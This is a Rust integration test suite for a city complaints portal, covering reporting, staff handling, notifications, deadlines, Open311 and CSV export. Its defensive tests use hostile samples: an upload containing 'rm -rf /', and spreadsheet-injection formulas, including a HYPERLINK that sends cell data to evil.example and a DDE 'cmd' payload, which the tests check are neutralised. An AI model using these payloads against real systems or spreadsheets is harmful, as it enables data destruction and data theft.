//! The complaints module, as citizens, handlers, other systems and the
//! deadline job use it: over HTTP on loopback, with a real SMTP server, a
//! third-party Open311 client (georeport, from PyPI), and the modules'
//! clock moved forward instead of waiting.

use std::time::Duration;

use portico_host::workers::WorkerConfig;
use portico_platform::audit;
use portico_platform::identity::users::UserKind;
use portico_platform::tokens;
use portico_runtime::api::CallContext;
use portico_tests::browser::{Browser, Page};
use portico_tests::peers::SmtpSink;
use portico_tests::{TEST_CITY, TestDatabase, TestPortal};

const PASSWORD: &str = "correct horse battery";
const BASE: &str = "/m/complaints";

fn at_once() -> WorkerConfig {
    WorkerConfig {
        backoff: Duration::ZERO,
        max_attempts: 3,
        ..WorkerConfig::default()
    }
}

/// Submits a form of the module: `page` and `path` below it.
async fn post(browser: &Browser, page: &str, path: &str, fields: &[(&str, &str)]) -> Page {
    browser
        .submit(&format!("{BASE}{page}"), &format!("{BASE}{path}"), fields)
        .await
}

/// Posts a module form with a file, as a browser does (multipart).
async fn post_with_file(
    browser: &Browser,
    page: &str,
    path: &str,
    fields: &[(&str, &str)],
    file: (&str, &str, &[u8]),
) -> Page {
    let form = browser.get(&format!("{BASE}{page}")).await;
    assert_eq!(form.status, 200, "{page}: {}", form.body);
    assert!(
        form.body.contains("enctype=\"multipart/form-data\""),
        "{}",
        form.body
    );
    let csrf = form.csrf();
    let mut all = vec![("_csrf", csrf.as_str())];
    all.extend_from_slice(fields);
    browser
        .post_multipart(&format!("{BASE}{path}"), &all, file)
        .await
}

/// The start of a PNG file: what the module looks at to tell a photo.
const PNG: &[u8] = &[
    0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, b'I', b'H', b'D', b'R',
];

/// The id in a redirect to `/m/complaints/<prefix>/<id>?…`.
fn id_in(page: &Page, prefix: &str) -> String {
    page.redirected_id(&format!("{BASE}{prefix}/"))
}

const POTHOLE: &str =
    "depth | How deep is it? | singlevaluelist | required | shallow=Shallow; deep=Deep (over 5 cm)";

/// A portal with complaints that mails through a loopback SMTP server,
/// and a manager (`hana`) logged in.
async fn portal_with_manager() -> (SmtpSink, TestPortal, Browser) {
    let smtp = SmtpSink::start(0).await;
    let portal = TestPortal::builder()
        .module("complaints")
        .smtp(&smtp.url())
        .setting("complaints", "escalation-email", "mayor@test-city.example")
        .setting("complaints", "reminder-days", "5")
        .build()
        .await;
    let manager = portal.user("hana", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&manager, TEST_CITY, "complaints.manager")
        .await;
    let staff = Browser::new(portal.serve().await);
    assert_eq!(staff.log_in("hana", PASSWORD).await.status, 303);
    (smtp, portal, staff)
}

const LAMP: &str = "what | What is wrong with it? | multivaluelist | optional | dark=It does not light; day=It lights by day; flicker=It flickers";

/// The categories of a city, as a manager would type them.
async fn set_up_categories(manager: &Browser) {
    for fields in [
        [
            ("code", "pothole"),
            ("name", "Pothole"),
            ("name_en", ""),
            ("description", "Holes in roads and pavements."),
            ("group", "Roads"),
            ("unit", "Roads department"),
            ("email", "roads@test-city.example"),
            ("deadline_days", "30"),
            ("attributes", POTHOLE),
        ],
        [
            ("code", "lamp"),
            ("name", "Nesvítící lampa"),
            ("name_en", "Street lamp out"),
            ("description", "A street lamp that does not light."),
            ("group", "Lighting"),
            ("unit", "Public lighting"),
            ("email", "lighting@test-city.example"),
            ("deadline_days", "30"),
            ("attributes", LAMP),
        ],
    ] {
        let saved = post(manager, "/categories", "/categories", &fields).await;
        assert_eq!(saved.status, 303, "{}", saved.body);
    }
}

#[tokio::test]
async fn a_citizen_reports_staff_handle_it_and_followers_hear_of_every_public_step() {
    let (smtp, portal, staff) = portal_with_manager().await;
    let addr = staff.addr();

    // A malformed category is refused at its fields, and nothing is saved.
    let refused = post(
        &staff,
        "/categories",
        "/categories",
        &[
            ("code", "pot hole"),
            ("name", "Pothole"),
            ("unit", ""),
            ("deadline_days", "0"),
            ("attributes", "depth | How deep? | colour | required"),
        ],
    )
    .await;
    refused.assert_refused(&[
        "Use 1 to 40 letters, digits, `-` or `_`",
        "Give a whole number of days from 1 to 365.",
        "Line 1: `colour` is not a datatype",
    ]);
    assert!(
        staff
            .get(&format!("{BASE}/categories"))
            .await
            .body
            .contains("No categories yet.")
    );
    set_up_categories(&staff).await;

    // A citizen picks the category and gets its question.
    let citizen = Browser::new(addr);
    let choice = citizen.get(&format!("{BASE}/report")).await;
    assert!(
        choice.body.contains("Pothole") && choice.body.contains("Street lamp out"),
        "{}",
        choice.body
    );
    // A category is named in each reader's language.
    let czech = Browser::new(addr);
    czech.get("/lang/cs").await;
    let choice_cs = czech.get(&format!("{BASE}/report")).await;
    assert!(
        choice_cs.body.contains("Nesvítící lampa") && !choice_cs.body.contains("Street lamp out"),
        "{}",
        choice_cs.body
    );
    let form = citizen
        .get(&format!("{BASE}/report?category=pothole"))
        .await;
    assert!(form.body.contains("How deep is it?"), "{}", form.body);

    // Wrong input is refused at the fields; nothing is stored.
    let wrong = post(
        &citizen,
        "/report?category=pothole",
        "/report",
        &[
            ("category", "pothole"),
            ("description", ""),
            ("address.lat", "149.2"),
            ("address.lon", "16.6"),
            ("attribute[depth]", "bottomless"),
            ("email", "not-an-address"),
        ],
    )
    .await;
    wrong.assert_refused(&[
        "Describe the problem.",
        "Give a latitude from -90 to 90.",
        "There is no answer `bottomless`: choose one of shallow, deep.",
        "Give an e-mail address such as jana@example.cz.",
    ]);
    assert!(
        citizen
            .get(&format!("{BASE}/"))
            .await
            .body
            .contains("No reports yet.")
    );

    let report: &[(&str, &str)] = &[
        ("category", "pothole"),
        ("description", "A deep hole in front of number 12."),
        ("address", "Husova 12"),
        ("address.lat", "49.19522"),
        ("address.lon", "16.60796"),
        ("attribute[depth]", "deep"),
        ("name", "Jana Nováková"),
        ("email", "jana@example.cz"),
    ];
    // A photo that is no picture, or too large, is refused at its field.
    let not_a_photo = post_with_file(
        &citizen,
        "/report?category=pothole",
        "/report",
        report,
        ("photo", "hole.png", b"#!/bin/sh\nrm -rf /\n"),
    )
    .await;
    assert_eq!(not_a_photo.status, 422, "{}", not_a_photo.body);
    assert!(
        not_a_photo
            .body
            .contains("Send a photo as JPEG, PNG or WebP."),
        "{}",
        not_a_photo.body
    );
    let mut large = PNG.to_vec();
    large.resize(6 << 20, 0);
    let too_large = post_with_file(
        &citizen,
        "/report?category=pothole",
        "/report",
        report,
        ("photo", "hole.png", &large),
    )
    .await;
    assert_eq!(too_large.status, 422, "{}", too_large.body);
    assert!(
        too_large.body.contains("The photo is larger than 5 MB"),
        "{}",
        too_large.body
    );
    large.resize(11 << 20, 0);
    let over_limit = post_with_file(
        &citizen,
        "/report?category=pothole",
        "/report",
        report,
        ("photo", "hole.png", &large),
    )
    .await;
    assert_eq!(over_limit.status, 413, "{}", over_limit.body);
    assert!(
        citizen
            .get(&format!("{BASE}/"))
            .await
            .body
            .contains("No reports yet.")
    );

    let mut photo = PNG.to_vec();
    photo.extend_from_slice(b"the rest of the picture");
    let filed = post_with_file(
        &citizen,
        "/report?category=pothole",
        "/report",
        report,
        ("photo", "C:\\Users\\jana\\hole.png", &photo),
    )
    .await;
    let first = id_in(&filed, "/reports");
    assert!(filed.location().contains("flash="), "{}", filed.location());
    let shown = citizen.get(&format!("{BASE}/reports/{first}")).await;
    assert_eq!(shown.status, 200);
    assert!(
        shown.body.contains("A deep hole in front of number 12.") && shown.body.contains("New"),
        "{}",
        shown.body
    );
    let number = portal_number(&shown.body);

    // Someone else reports the same hole, 20 m away, without a contact:
    // before it is sent they are shown the open report there, and send
    // theirs all the same.
    let other = Browser::new(addr);
    let fields = [
        ("category", "pothole"),
        ("description", "Pothole on Husova street"),
        ("address.lat", "49.19540"),
        ("address.lon", "16.60796"),
        ("attribute[depth]", "shallow"),
    ];
    let asked = post(&other, "/report?category=pothole", "/report", &fields).await;
    assert!(
        asked.body.contains("Is it one of these?") && asked.body.contains(&number),
        "{}",
        asked.body
    );
    let second = id_in(
        &post(
            &other,
            "/report?category=pothole",
            "/report",
            &[&fields[..], &[("nearby_seen", "1")]].concat(),
        )
        .await,
        "/reports",
    );

    // The public registry hides who reported.
    let registry = other.get(&format!("{BASE}/")).await;
    assert!(registry.body.contains(&number), "{}", registry.body);
    for personal in ["Jana Nováková", "jana@example.cz"] {
        assert!(!registry.body.contains(personal), "{personal} is public");
        assert!(!shown.body.contains(personal), "{personal} is public");
    }

    // A neighbour asks to follow the first report.
    let followed = post(
        &other,
        &format!("/reports/{first}"),
        &format!("/reports/{first}"),
        &[("email", "soused@example.cz")],
    )
    .await;
    assert_eq!(followed.status, 303, "{}", followed.body);

    // The receipt reached the reporter, and the neighbour a link to confirm.
    portal.send_notifications(&at_once()).await;
    let mail = smtp.received();
    assert_eq!(
        mail.len(),
        2,
        "{:?}",
        mail.iter().map(|m| m.subject()).collect::<Vec<_>>()
    );
    let receipt = mail.iter().find(|m| m.to == ["jana@example.cz"]).unwrap();
    assert_eq!(
        receipt.subject(),
        format!("Report {number} received: Pothole")
    );
    assert!(
        receipt.text().contains("Roads department"),
        "{}",
        receipt.text()
    );
    let request = mail.iter().find(|m| m.to == ["soused@example.cz"]).unwrap();
    assert_eq!(
        request.subject(),
        format!("Confirm that you follow report {number}")
    );
    // The neighbour confirms with the link.
    let confirmed = press(&other, &link_in(&request.text(), "follow")).await;
    assert_eq!(confirmed.status, 303, "{}", confirmed.body);

    // Anonymous visitors cannot open the inbox or the export.
    assert_ne!(other.get(&format!("{BASE}/handle")).await.status, 200);
    assert!(matches!(
        other.get(&format!("{BASE}/export.csv")).await.status,
        401 | 403
    ));

    // The handler sees both in the inbox, and the second as a duplicate of the first.
    let inbox = staff.get(&format!("{BASE}/handle")).await;
    assert!(inbox.body.contains(&number), "{}", inbox.body);
    // The photo is for staff only.
    let first_handling = staff.get(&format!("{BASE}/handle/{first}")).await;
    let at = first_handling
        .body
        .find(&format!("{BASE}/photos/"))
        .expect("a link to the photo");
    let link = &first_handling.body[at..];
    let link = &link[..link.find('"').unwrap()];
    let picture = staff.get(link).await;
    assert_eq!(picture.status, 200, "{}", picture.body);
    assert_eq!(picture.headers["content-type"], "image/png");
    // The test browser reads bodies as text: compare them the same way.
    assert_eq!(picture.body, String::from_utf8_lossy(&photo));
    assert!(matches!(other.get(link).await.status, 401 | 403));
    let handling = staff.get(&format!("{BASE}/handle/{second}")).await;
    assert!(
        handling.body.contains("Possible duplicates") && handling.body.contains(&number),
        "{}",
        handling.body
    );
    // Merging is asked once more, naming the report that stays open: the
    // older one unless the handler chooses the newer.
    let asked = post(
        &staff,
        &format!("/handle/{second}"),
        &format!("/handle/{second}"),
        &[("op", "merge"), ("into", &first), ("keep", "older")],
    )
    .await;
    assert_eq!(asked.status, 303, "{}", asked.body);
    let asked = staff.get(asked.location()).await;
    assert_eq!(asked.status, 200, "{}", asked.body);
    assert!(
        asked.body.contains(&format!("Report {number} (filed "))
            && asked.body.contains(") stays open. Report ")
            && asked.body.contains("is closed as its duplicate"),
        "{}",
        asked.body
    );
    let untouched = staff.get(&format!("{BASE}/handle/{second}")).await;
    assert!(
        untouched.body.contains("Possible duplicates"),
        "nothing merged yet"
    );
    let merged = post(
        &staff,
        &format!("/handle/{second}"),
        &format!("/handle/{second}"),
        &[
            ("op", "merge"),
            ("into", &first),
            ("keep", "older"),
            ("confirm", "yes"),
        ],
    )
    .await;
    assert_eq!(id_in(&merged, "/handle"), first);
    let duplicate = other.get(&format!("{BASE}/reports/{second}")).await;
    assert!(
        duplicate.body.contains("Duplicate")
            && duplicate
                .body
                .contains(&format!("dealt with in report {number}")),
        "{}",
        duplicate.body
    );

    // A note is internal unless the handler chooses public, at every step.
    let handling = staff.get(&format!("{BASE}/handle/{first}")).await;
    assert!(
        handling
            .body
            .contains(r#"type="radio" name="visibility" value="internal" checked"#),
        "{}",
        handling.body
    );

    // A step without a note or a change is refused; an internal note is not public.
    let empty = post(
        &staff,
        &format!("/handle/{first}"),
        &format!("/handle/{first}"),
        &[
            ("op", "step"),
            ("status", "new"),
            ("handler", "hana"),
            ("note", ""),
            ("visibility", "internal"),
        ],
    )
    .await;
    assert_eq!(empty.status, 422);
    assert!(
        empty.body.contains("Write the note, or change the status."),
        "{}",
        empty.body
    );
    for (status, note, visibility) in [
        ("acknowledged", "A crew will come this week.", "public"),
        (
            "in-progress",
            "Call the contractor about asphalt.",
            "internal",
        ),
        ("resolved", "The hole is filled.", "public"),
    ] {
        let step = post(
            &staff,
            &format!("/handle/{first}"),
            &format!("/handle/{first}"),
            &[
                ("op", "step"),
                ("status", status),
                ("handler", "hana"),
                ("note", note),
                ("visibility", visibility),
            ],
        )
        .await;
        assert_eq!(step.status, 303, "{status}: {}", step.body);
    }
    let public = other.get(&format!("{BASE}/reports/{first}")).await;
    assert!(
        public.body.contains("A crew will come this week.") && public.body.contains("Resolved"),
        "{}",
        public.body
    );
    assert!(
        !public.body.contains("asphalt"),
        "an internal note is public"
    );
    assert!(
        staff
            .get(&format!("{BASE}/handle/{first}"))
            .await
            .body
            .contains("Call the contractor about asphalt.")
    );

    // Reporter and follower heard of each public step, and of nothing internal.
    portal.send_notifications(&at_once()).await;
    let mut updates: Vec<(String, String)> = smtp
        .received()
        .iter()
        .map(|m| (m.to[0].clone(), m.subject()))
        .filter(|(_, subject)| subject.starts_with(&format!("Report {number}: ")))
        .collect();
    updates.sort();
    assert_eq!(
        updates,
        [
            (
                "jana@example.cz".to_owned(),
                format!("Report {number}: Acknowledged")
            ),
            (
                "jana@example.cz".to_owned(),
                format!("Report {number}: Resolved")
            ),
            (
                "soused@example.cz".to_owned(),
                format!("Report {number}: Acknowledged")
            ),
            (
                "soused@example.cz".to_owned(),
                format!("Report {number}: Resolved")
            ),
        ]
    );
    let resolved = smtp
        .received()
        .into_iter()
        .find(|m| m.subject().ends_with("Resolved"))
        .unwrap();
    assert!(
        resolved.text().contains("The hole is filled."),
        "{}",
        resolved.text()
    );

    // The export has everything, personal data included; the dashboard the figures.
    let csv = staff.get(&format!("{BASE}/export.csv")).await;
    assert_eq!(csv.status, 200, "{}", csv.body);
    assert!(
        csv.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let rows: Vec<&str> = csv.body.lines().collect();
    assert_eq!(rows.len(), 3, "{}", csv.body);
    assert!(rows[0].starts_with("number,id,requested,category,status"));
    assert!(
        csv.body.contains("jana@example.cz")
            && csv.body.contains(",duplicate,")
            && csv.body.contains(",resolved,")
    );
    let dashboard = other.get(&format!("{BASE}/dashboard")).await;
    assert!(
        dashboard.body.contains("Average time to resolve") && dashboard.body.contains("1 resolved"),
        "{}",
        dashboard.body
    );

    // Every step is in the city's audit trail.
    let actions: Vec<String> = audit::entries(portal.db(), TEST_CITY)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.action)
        .collect();
    for action in [
        "complaint.category",
        "complaint.report",
        "complaint.merge",
        "complaint.step",
    ] {
        assert!(actions.iter().any(|a| a == action), "{action}: {actions:?}");
    }
}

/// The report number shown on a report's page (`Report 2026-482731`):
/// the year and six digits, to be read out over the phone.
fn portal_number(html: &str) -> String {
    let start = html.find("Report 20").expect("a report number") + "Report ".len();
    let number = html[start..start + 11].to_owned();
    assert!(
        number[..4].chars().all(|c| c.is_ascii_digit())
            && &number[4..5] == "-"
            && number[5..].chars().all(|c| c.is_ascii_digit()),
        "a number made of digits: {number}"
    );
    number
}

#[tokio::test]
async fn the_deadline_job_reminds_the_unit_and_escalates_when_the_clock_passes_the_deadline() {
    let (smtp, portal, staff) = portal_with_manager().await;
    let addr = staff.addr();
    set_up_categories(&staff).await;
    let citizen = Browser::new(addr);
    let lamp = id_in(
        &post(
            &citizen,
            "/report?category=lamp",
            "/report",
            &[
                ("category", "lamp"),
                ("description", "Dark all night."),
                ("address", "Kounicova 5"),
                ("attribute[what]", "dark"),
                ("attribute[what]", "flicker"),
            ],
        )
        .await,
        "/reports",
    );
    let module = portal.module("complaints");
    let run = || async {
        let ctx = CallContext {
            org_id: TEST_CITY.into(),
            principal: None,
            request_id: "test-deadlines".into(),
            locale: "en".into(),
        };
        module
            .run_job(&ctx, "deadlines")
            .await
            .expect("the job runs");
        portal.send_notifications(&at_once()).await;
        smtp.received()
            .iter()
            .map(|m| (m.to[0].clone(), m.subject()))
            .collect::<Vec<_>>()
    };

    // Today nothing is near its deadline.
    assert!(run().await.is_empty());
    // 26 days on, the deadline is 4 days away: the unit is reminded, once.
    portal.clock().advance(Duration::from_secs(26 * 86_400));
    let sent = run().await;
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0].0, "lighting@test-city.example");
    assert!(sent[0].1.starts_with("Deadline near: report "), "{sent:?}");
    assert_eq!(run().await.len(), 1, "reminded once only");
    // 31 days on, the deadline passed: the report is escalated, once.
    portal.clock().advance(Duration::from_secs(5 * 86_400));
    let sent = run().await;
    assert_eq!(sent.len(), 2, "{sent:?}");
    assert_eq!(sent[1].0, "mayor@test-city.example");
    assert!(
        sent[1].1.starts_with("Deadline passed: report "),
        "{sent:?}"
    );
    assert_eq!(run().await.len(), 2, "escalated once only");

    // The inbox shows it overdue; the audit trail has the escalation.
    let overdue = staff
        .get(&format!("{BASE}/handle?status=open&overdue=1"))
        .await;
    assert!(overdue.body.contains("(overdue)"), "{}", overdue.body);
    let handling = staff.get(&format!("{BASE}/handle/{lamp}")).await;
    assert!(
        handling.body.contains("Escalated: the deadline passed on"),
        "{}",
        handling.body
    );
    // Both ticked answers of the question, by their names.
    assert!(
        handling.body.contains("It does not light") && handling.body.contains("It flickers"),
        "{}",
        handling.body
    );
    let actions: Vec<String> = audit::entries(portal.db(), TEST_CITY)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.action)
        .collect();
    assert!(
        actions.iter().any(|a| a == "complaint.escalate"),
        "{actions:?}"
    );
}

/// The Python of the venv that holds the Open311 client.
fn open311_python() -> std::path::PathBuf {
    if let Some(p) = std::env::var_os("OPEN311_PYTHON") {
        return p.into();
    }
    let venv = portico_tests::repo_root().join("target/open311-venv/bin/python");
    assert!(
        venv.exists(),
        "the Open311 client is not installed: run `cargo xtask test`, which installs it"
    );
    venv
}

/// What the client does: georeport lists services, reads a definition and
/// requests, in JSON and in XML. georeport does not post (its README says
/// so), so posting goes through `requests`, the HTTP library it stands on,
/// with Open311's form fields and `api_key`.
const CLIENT: &str = r#"
import json, sys
import requests
from georeport import GeoReport

root, key = sys.argv[1], sys.argv[2]
out = {}
for fmt in ("json", "xml"):
    client = GeoReport(root, output_format=fmt)
    services = client.get_service_list()
    if isinstance(services, dict):
        services = [services]
    out[fmt + "_services"] = sorted(s["service_code"] for s in services)
    out[fmt + "_definition"] = client.get_service_definition("pothole")

def post(fields):
    r = requests.post(root + "/requests.json", data=fields)
    return {"status": r.status_code, "body": r.json()}

report = {
    "service_code": "pothole",
    "lat": "49.19522",
    "long": "16.60796",
    "attribute[depth]": "deep",
    "description": "Hole at the tram stop",
    "first_name": "Jan",
    "last_name": "Novák",
    "email": "jan@example.cz",
}
out["no_key"] = post(report)
out["wrong_key"] = post(dict(report, api_key="pt_not-a-key"))
out["no_code"] = post({"api_key": key, "description": "x", "address_string": "Husova 1"})
out["bad_answer"] = post(dict(report, api_key=key, **{"attribute[depth]": "bottomless"}))
created = post(dict(report, api_key=key))
out["created"] = created
if created["status"] != 201:
    print(json.dumps(out))
    sys.exit(0)
rid = created["body"][0]["service_request_id"]
out["json_one"] = GeoReport(root).get_service_request(rid)
out["xml_one"] = GeoReport(root, output_format="xml").get_service_request(rid)
out["json_open"] = [r["service_request_id"] for r in GeoReport(root).get_service_requests(status="open")]
out["json_closed"] = GeoReport(root).get_service_requests(status="closed")
try:
    GeoReport(root).get_service_definition("no-such-service")
except requests.HTTPError as e:
    out["missing"] = {"status": e.response.status_code, "body": e.response.json()}
print(json.dumps(out))
"#;

#[tokio::test]
async fn a_third_party_open311_client_lists_services_posts_and_reads_requests() {
    let database = TestDatabase::postgres().await;
    let portal = TestPortal::builder()
        .module("complaints")
        .database(database)
        .build()
        .await;
    portal
        .import(
            TEST_CITY,
            "complaints",
            "categories",
            &[
                serde_json::json!({ "code": "pothole", "name": "Pothole", "description": "Holes in roads.", "group": "Roads", "keywords": "road, hole", "unit": "Roads department", "deadline_days": 30, "attributes": [{ "code": "depth", "description": "How deep is it?", "datatype": "singlevaluelist", "required": true, "values": [["shallow", "Shallow"], ["deep", "Deep"]] }] }),
                serde_json::json!({ "code": "lamp", "name": "Street lamp out", "unit": "Public lighting", "deadline_days": 60 }),
            ]
            .map(|c| c.to_string())
            .join("\n"),
        )
        .await;
    let (key, _) = tokens::create(
        portal.db(),
        "test",
        TEST_CITY,
        "Dispatch centre",
        &["complaints.open311".to_owned()],
        None,
    )
    .await
    .unwrap();
    let addr = portal.serve().await;
    let root = format!("http://{addr}{BASE}/open311/v2");

    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("client.py");
    std::fs::write(&script, CLIENT).unwrap();
    let python = open311_python();
    let out = tokio::process::Command::new(&python)
        .arg(&script)
        .arg(&root)
        .arg(&key)
        .output()
        .await
        .expect("the Open311 client runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got: serde_json::Value = serde_json::from_str(&stdout).expect("the client's summary");
    println!("{}", serde_json::to_string_pretty(&got).unwrap());

    // Services and a definition, the same in JSON and XML.
    assert_eq!(got["json_services"], serde_json::json!(["lamp", "pothole"]));
    assert_eq!(got["xml_services"], got["json_services"]);
    let json_attribute = &got["json_definition"]["attributes"][0];
    assert_eq!(json_attribute["code"], "depth");
    assert_eq!(json_attribute["datatype"], "singlevaluelist");
    assert_eq!(json_attribute["required"], true);
    assert_eq!(json_attribute["values"][1]["key"], "deep");
    let xml_attribute = &got["xml_definition"]["attributes"]["attribute"];
    assert_eq!(xml_attribute["code"], "depth");
    assert_eq!(xml_attribute["required"], "true");
    assert_eq!(xml_attribute["values"]["value"][1]["name"], "Deep");

    // Posting takes a key with the permission; errors in Open311's format.
    for (case, status) in [
        ("no_key", 403),
        ("wrong_key", 403),
        ("no_code", 400),
        ("bad_answer", 400),
    ] {
        assert_eq!(got[case]["status"], status, "{case}: {}", got[case]);
        let error = &got[case]["body"][0];
        assert_eq!(error["code"], status, "{case}: {error}");
        assert!(error["description"].is_string(), "{case}: {error}");
    }
    assert!(
        got["no_code"]["body"][0]["description"]
            .as_str()
            .unwrap()
            .contains("service_code is required")
    );
    assert!(
        got["bad_answer"]["body"][0]["description"]
            .as_str()
            .unwrap()
            .starts_with("attribute[depth]:")
    );
    assert_eq!(got["created"]["status"], 201, "{}", got["created"]);
    let id = got["created"]["body"][0]["service_request_id"]
        .as_str()
        .unwrap();

    // The request reads back in both formats, without the reporter's data.
    let one = &got["json_one"];
    assert_eq!(one["service_request_id"], id);
    assert_eq!(one["status"], "open");
    assert_eq!(one["service_code"], "pothole");
    assert_eq!(one["service_name"], "Pothole");
    assert_eq!(one["agency_responsible"], "Roads department");
    assert_eq!(one["lat"], 49.19522);
    assert_eq!(one["description"], "Hole at the tram stop");
    let xml = &got["xml_one"];
    assert_eq!(xml["service_request_id"], id);
    assert_eq!(xml["long"], "16.60796");
    for field in ["email", "first_name", "last_name", "phone"] {
        assert!(one.get(field).is_none(), "{field} in {one}");
    }
    assert_eq!(got["json_open"], serde_json::json!([id]));
    assert_eq!(got["json_closed"], serde_json::json!([]));
    assert_eq!(got["missing"]["status"], 404);
    assert_eq!(
        got["missing"]["body"][0]["description"],
        "service_code `no-such-service` was not found"
    );

    // XML errors, and the request the module stored came with no key.
    let client = reqwest::Client::new();
    let refused = client
        .post(format!("{root}/requests.xml"))
        .form(&[
            ("service_code", "lamp"),
            ("address_string", "Kounicova 5"),
            ("description", "Dark"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 403);
    let body = refused.text().await.unwrap();
    assert!(
        body.contains("<errors><error><code>403</code><description>api_key is missing"),
        "{body}"
    );
    // Only a form posted to a page may carry files: an API body over 1 MiB
    // is refused while it is read.
    let huge = client
        .post(format!("{root}/requests.json"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(vec![b'a'; 2 << 20])
        .send()
        .await
        .unwrap();
    assert_eq!(huge.status(), 413);
    let stored = portal_records(&portal).await;
    assert_eq!(stored.len(), 1, "{stored:?}");
    assert!(
        !stored[0].contains(&key) && stored[0].contains("jan@example.cz"),
        "{stored:?}"
    );
    portal.database.cleanup().await;
}

/// The complaints module's reports in the test city, as stored.
async fn portal_records(portal: &TestPortal) -> Vec<String> {
    let module = portal.module("complaints");
    let schema = portico_host::services::schema(portico_runtime::backend::CollectionRef {
        name: "reports",
        spec: &module.manifest().collections["reports"],
    });
    let scope = portico_platform::records::Scope {
        org_id: TEST_CITY.into(),
        module_id: "complaints".into(),
        actor: "test".into(),
    };
    let query = portico_platform::records::Query {
        limit: 100,
        ..Default::default()
    };
    portico_platform::records::query(portal.db(), &scope, &schema, &query)
        .await
        .expect("the module's records")
        .records
        .into_iter()
        .map(|r| r.doc)
        .collect()
}

#[tokio::test]
async fn a_name_verified_by_the_eid_is_filled_in_and_cannot_be_changed() {
    use crate::oidc::{citizen, log_in_through, portal_with};
    use portico_tests::oidc::TestProvider;

    let provider = TestProvider::start(citizen()).await;
    let (portal, jana) =
        portal_with(&["complaints"], &provider, "eid", UserKind::Citizen, |b| b).await;
    let addr = jana.addr();
    let manager = portal.user("hana", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&manager, TEST_CITY, "complaints.manager")
        .await;
    let staff = Browser::new(addr);
    staff.log_in("hana", PASSWORD).await;
    set_up_categories(&staff).await;

    let back = log_in_through(&jana, "eid", "/m/complaints/report?category=lamp").await;
    assert_eq!(back.status, 303, "{}", back.body);
    let form = jana.get(&format!("{BASE}/report?category=lamp")).await;
    // The verified name is there, read-only and marked; the e-mail filled in.
    let name = &form.body[form.body.find("id=\"f-name\"").expect("the name field")..];
    let name = &name[..name.find('>').unwrap()];
    assert!(
        name.contains("value=\"Jana Nováková\"") && name.contains("readonly"),
        "{name}"
    );
    assert!(form.body.contains("(cannot be changed)"), "{}", form.body);
    assert!(
        form.body.contains("value=\"jana@example.cz\""),
        "{}",
        form.body
    );
    assert!(
        form.body.contains("autocomplete=\"email\""),
        "{}",
        form.body
    );
    // The question with several answers is boxes to tick.
    assert!(
        form.body
            .contains("type=\"checkbox\" name=\"attribute[what]\" value=\"flicker\""),
        "{}",
        form.body
    );

    // A wrong phone is refused at its field; a browser made to send
    // another name does not change the verified one.
    let mut fields = vec![
        ("category", "lamp"),
        ("description", "The lamp by the school is out."),
        ("address", "Školní 3"),
        ("name", "Someone Else"),
        ("email", "jana@example.cz"),
        ("phone", "call me maybe"),
    ];
    let refused = post(&jana, "/report?category=lamp", "/report", &fields).await;
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert!(
        refused
            .body
            .contains("Give a phone number such as +420 601 234 567."),
        "{}",
        refused.body
    );
    fields[5] = ("phone", "+420 601 234 567");
    let filed = post(&jana, "/report?category=lamp", "/report", &fields).await;
    let id = id_in(&filed, "/reports");
    let handling = staff.get(&format!("{BASE}/handle/{id}")).await;
    assert!(
        handling
            .body
            .contains("Jana Nováková, jana@example.cz, +420 601 234 567"),
        "{}",
        handling.body
    );
    assert!(!handling.body.contains("Someone Else"));
}

/// Text a citizen typed that a spreadsheet would run as a formula comes out
/// of the staff export as text: a quote in front, the rest as typed. The
/// coordinates, numbers of the module's own, stay numbers.
#[tokio::test]
async fn text_that_begins_like_a_formula_is_exported_as_text_a_spreadsheet_does_not_run() {
    let (_smtp, _portal, staff) = portal_with_manager().await;
    set_up_categories(&staff).await;
    let citizen = Browser::new(staff.addr());
    let hyperlink = "=HYPERLINK(\"https://evil.example/?\"&O2,\"Details\")";
    let filed = post(
        &citizen,
        "/report?category=lamp",
        "/report",
        &[
            ("category", "lamp"),
            ("description", hyperlink),
            ("address", "-1+2 Husova"),
            ("address.lat", "49.19522"),
            ("address.lon", "-16.60796"),
            ("name", "@SUM(1+1)"),
            ("email", "jana@example.cz"),
            ("phone", "+420 601 234 567"),
        ],
    )
    .await;
    id_in(&filed, "/reports");
    // A tab before the formula: the module trims it, the formula stays text.
    let filed = post(
        &citizen,
        "/report?category=lamp",
        "/report",
        &[
            ("category", "lamp"),
            ("description", "\t+cmd|' /C calc'!A0"),
            ("address", "Kounicova 5"),
        ],
    )
    .await;
    id_in(&filed, "/reports");

    let csv = staff.get(&format!("{BASE}/export.csv")).await;
    assert_eq!(csv.status, 200, "{}", csv.body);
    let rows = csv.csv_rows();
    assert_eq!(rows.len(), 3, "{}", csv.body);
    let column = |name: &str| {
        rows[0]
            .iter()
            .position(|c| c == name)
            .unwrap_or_else(|| panic!("no column {name}: {:?}", rows[0]))
    };
    // Newest first.
    let (tab, first) = (&rows[1], &rows[2]);
    for (name, typed) in [
        ("description", hyperlink),
        ("address", "-1+2 Husova"),
        ("name", "@SUM(1+1)"),
        ("phone", "+420 601 234 567"),
    ] {
        assert_eq!(first[column(name)], format!("'{typed}"), "{name}");
    }
    assert_eq!(tab[column("description")], "'+cmd|' /C calc'!A0");
    assert_eq!(first[column("lat")], "49.19522");
    assert_eq!(first[column("long")], "-16.60796");
    assert_eq!(first[column("email")], "jana@example.cz");
    // Besides the coordinates, no cell of the file begins like a formula.
    let numbers = [column("lat"), column("long")];
    for row in &rows {
        for (i, cell) in row.iter().enumerate() {
            assert!(
                numbers.contains(&i) || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }
}

/// The portal's public address: links in e-mails start with it.
